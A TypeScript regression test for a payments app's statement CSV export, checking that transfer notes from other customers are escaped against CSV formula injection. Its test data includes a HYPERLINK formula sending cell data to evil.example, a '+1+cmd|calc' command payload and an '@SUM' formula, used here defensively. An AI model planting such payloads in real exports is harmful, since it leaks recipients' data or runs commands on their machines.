/**
 * Regression: a statement's CSV wrote descriptions as they came, and another customer writes the description of a
 * transfer they send (its note). A note such as `=HYPERLINK("https://evil.example/?"&A1,"Refund")` became a live
 * formula in the recipient's spreadsheet (CSV injection, OWASP). Text cells starting with = + - @, a tab or a
 * carriage return are now written with a leading apostrophe; amounts stay numbers.
 */
import { DEMO_USER_IDS, type Wallet } from '@tessera/contracts';
import { describeEachDatabase } from '@tessera/platform/testing';
import { beforeAll, expect, it } from 'vitest';
import { buildRailsTestApp, type RailsTestApp } from '../rails/rails-test-app.ts';

const ana = DEMO_USER_IDS.verifiedCustomer;
const leo = DEMO_USER_IDS.freshCustomer;

describeEachDatabase("statement CSV with another customer's text in it", ({ createDatabase }) => {
  let t: RailsTestApp;

  beforeAll(async () => {
    t = await buildRailsTestApp(await createDatabase());
  }, 120_000);

  it('writes a formula-looking note as text, never as a formula, and keeps negative amounts numeric', async () => {
    const anaToken = await t.token(ana, { stepUp: true });
    const leoToken = await t.token(leo);
    const anaEur = (await t.call('GET', '/api/cash-operations/wallets', { token: anaToken }))
      .json()
      .items.find((wallet: Wallet) => wallet.asset === 'EUR') as Wallet;
    const notes = ['=HYPERLINK("https://evil.example/?"&A1,"Refund")', '+1+cmd|calc', '@SUM(A1:A9)'];
    for (const [index, note] of notes.entries()) {
      const sent = await t.call('POST', '/api/cash-operations/transfers/customer', {
        token: anaToken,
        body: { fromWalletId: anaEur.id, recipientEmail: 'leo.fresh@tessera.test', amount: '1.00', note },
        key: `csv-${index}`,
      });
      expect(sent.statusCode, sent.body).toBe(201);
    }
    const leoEur = (await t.call('GET', '/api/cash-operations/wallets', { token: leoToken }))
      .json()
      .items.find((wallet: Wallet) => wallet.asset === 'EUR') as Wallet;
    const month = new Date().toISOString().slice(0, 7);
    const csv = await t.call(
      'GET',
      `/api/cash-operations/wallets/${leoEur.id}/statements/${month}?format=csv`,
      {
        token: leoToken,
      },
    );
    expect(csv.statusCode, csv.body).toBe(200);
    const cells = csv.body
      .split('\r\n')
      .flatMap((line) => line.split(','))
      .map((cell) => cell.replace(/^"/, ''));
    for (const cell of cells) {
      expect(cell, csv.body).not.toMatch(/^[=+@\t\r]/);
    }
    expect(csv.body).toContain(`'=HYPERLINK(`);
    expect(csv.body).toContain(`'+1+cmd|calc`);
    expect(csv.body).toContain(`'@SUM(A1:A9)`);

    // The sender's own statement: amounts leaving the wallet are still plain negative numbers.
    const anaCsv = await t.call(
      'GET',
      `/api/cash-operations/wallets/${anaEur.id}/statements/${month}?format=csv`,
      {
        token: anaToken,
      },
    );
    expect(anaCsv.body).toMatch(/,-1\.00,/);
    expect(anaCsv.body).not.toContain(`'-1.00`);
  });
});
